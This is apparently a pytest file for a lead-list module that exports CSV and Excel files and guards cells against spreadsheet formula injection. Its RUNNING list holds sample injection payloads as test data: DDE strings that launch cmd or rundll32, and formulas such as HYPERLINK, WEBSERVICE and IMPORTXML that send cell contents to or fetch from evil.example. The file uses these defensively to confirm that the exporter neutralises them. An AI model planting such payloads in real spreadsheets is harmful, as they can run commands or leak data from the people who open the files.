"""What is written is read back as it was, and no spreadsheet program takes it for a formula."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest
from openpyxl import load_workbook

from leads.sheets import Sheet, csv_rows, from_text, guarded, read, read_in_child, unguarded, xlsx_file
from leads.sheets.guard import DANGEROUS

HEADINGS = ["Name; first", "Company, long", "=Sum", "'+Tab", "Tags"]
PIECES = [*"=+-@＝＋',;\t\n\r aéß7", '"', "\r\n", "  ", "_x0041_"]


def some_rows(seed: int, count: int = 200) -> list[list[str]]:
    """Cells of every awkward beginning, with a last one that keeps a row from being blank."""
    dice = random.Random(seed)
    return [
        ["".join(dice.choices(PIECES, k=dice.randrange(6))) for _ in HEADINGS[:-1]] + [str(number)]
        for number in range(count)
    ]


def written(path: Path, rows: list[list[str]]) -> Path:
    with path.open("wb") as file:
        if path.suffix == ".csv":
            file.writelines(csv_rows(HEADINGS, rows))
        else:
            xlsx_file(HEADINGS, rows, file)
    return path


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_reads_what_it_wrote(kind: str, tmp_path: Path) -> None:
    rows = some_rows(seed=1)
    sheet = read(written(tmp_path / f"leads.{kind}", rows), name=f"leads.{kind}")
    assert sheet.headings == HEADINGS
    assert sheet.rows == rows
    assert sheet.row_numbers == list(range(2, len(rows) + 2))
    assert (sheet.kind, sheet.has_headings) == (kind, True)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_reads_the_same_apart(kind: str, tmp_path: Path) -> None:
    path = written(tmp_path / f"leads.{kind}", some_rows(seed=2))
    assert read_in_child(path, name=path.name, seconds=60) == read(path, name=path.name)


def test_it_reads_the_same_pasted(tmp_path: Path) -> None:
    rows = some_rows(seed=3)
    out = io.StringIO(newline="")
    csv.writer(out, delimiter="\t").writerows([HEADINGS, *rows])
    sheet = from_text(out.getvalue())
    assert (sheet.kind, sheet.rows) == ("tsv", [[unguarded(cell) for cell in row] for row in rows])


@pytest.mark.parametrize("begins", DANGEROUS)
def test_it_guards_what_would_run(begins: str) -> None:
    for text in (begins, f"{begins}1+1", f"'{begins}1", f"''{begins}"):
        assert guarded(text) == f"'{text}"
        assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["", "'", "'a", "O'Neill", "a=b", " =1", "3-4"])
def test_it_leaves_other_text_as_it_is(text: str) -> None:
    assert (guarded(text), unguarded(text)) == (text, text)


RUNNING = [
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1)",
    "WEBSERVICE(\"http://evil.example\")", "IMPORTXML(\"http://evil.example\",\"//a\")",
    "DDE(\"cmd\",\"/C calc\",\"x\")", "@SUM(1)", "rundll32|'x'!A0", "A1", "", "49 170 1234567", "\t=1", "'=1", "''",
    "\"=1\"", ";=1", ",=1", " =1", "\n=1",
]  # fmt: skip


def test_no_spreadsheet_program_finds_a_formula_in_what_it_wrote(tmp_path: Path) -> None:
    """Every beginning before every formula, as CSV and as a workbook; and each comes back as it was."""
    rows = [[f"{begins}{rest}", str(number)] for begins in DANGEROUS for number, rest in enumerate(RUNNING)]
    assert len(rows) >= 200
    for kind in ("csv", "xlsx"):
        path = tmp_path / f"leads.{kind}"
        with path.open("wb") as file:
            if kind == "csv":
                file.writelines(csv_rows(["A", "B"], rows))
            else:
                xlsx_file(["A", "B"], rows, file)
        assert [row[0] for row in read(path, name=path.name).rows] == [row[0] for row in rows], kind
    cells = [
        row[0] for row in csv.reader(io.StringIO((tmp_path / "leads.csv").read_bytes().decode("utf-8-sig"), newline=""))
    ]
    assert [cell for cell in cells[1:] if not cell.startswith("'")] == []
    sheet = load_workbook(tmp_path / "leads.xlsx").active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}


def test_it_writes_csv_as_the_standard_says() -> None:
    written = b"".join(csv_rows(["a", "b"], [["1", 'x "y"\nz'], ["", "=1"]]))
    assert written == b'\xef\xbb\xbf"a","b"\r\n1,"x ""y""\nz"\r\n,\'=1\r\n'


def test_it_writes_csv_piece_by_piece() -> None:
    asked = []

    def rows() -> object:
        for number in range(10_000):
            asked.append(number)
            yield [str(number), "x" * 100]

    pieces = csv_rows(["a", "b"], rows())  # type: ignore[arg-type]
    first = next(pieces)
    assert 64 * 1024 <= len(first) < 80 * 1024 and len(asked) < 1_000


def test_a_sheet_without_headings_gets_some() -> None:
    sheet = from_text("sam@example.com\tSam\nbo@example.com\tBo")
    assert not sheet.has_headings
    again: Sheet = sheet.with_first_row_as_data()
    assert again.headings == ["Column A", "Column B"]
    assert again.rows == [["sam@example.com", "Sam"], ["bo@example.com", "Bo"]]
    assert again.row_numbers == [1, 2]
